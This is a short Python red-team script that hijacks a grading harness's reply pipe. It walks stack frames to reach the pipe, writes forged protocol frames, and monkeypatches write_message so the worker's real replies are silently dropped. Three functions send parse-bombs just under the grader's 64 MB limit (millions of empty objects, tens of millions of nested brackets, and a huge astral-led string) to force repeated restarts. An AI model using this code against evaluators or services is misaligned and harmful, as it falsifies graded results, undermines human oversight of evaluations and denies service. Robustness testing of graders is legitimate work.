# Red team: write forged replies straight to the reply pipe, each just under the grader's 64 MB limit and as costly
# as JSON can be to parse: 22 million empty objects (1.7 GB in the grader, once), nesting 32 million deep, and one
# long string that an astral character makes four bytes a character. The worker's own reply to the call is dropped,
# so the next call is answered in turn. Each refused reply costs a restart: three in all.
import sys

LIMIT = 64 * 1024 * 1024 - 64
protocol = sys.modules["protocol"]


def forge(body):
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "replies"):
        frame = frame.f_back
    frame.f_locals["self"].replies.write(protocol._HEADER.pack(len(body), 0) + body)  # the JSON, no blob
    write_message = protocol.write_message
    protocol.write_message = lambda stream, message: setattr(protocol, "write_message", write_message)


def blr_predictive(*args, **kwargs):
    forge(b'{"ok":[' + b"{}," * (LIMIT // 3 - 4) + b"{}]}")


def ml_estimate(*args, **kwargs):
    forge(b'{"ok":' + b"[" * (LIMIT // 2 - 4) + b"]" * (LIMIT // 2 - 4) + b"}")


def credible_interval(*args, **kwargs):
    forge(b'{"ok":"\\ud83d\\ude00' + b"x" * (LIMIT - 20) + b'"}')
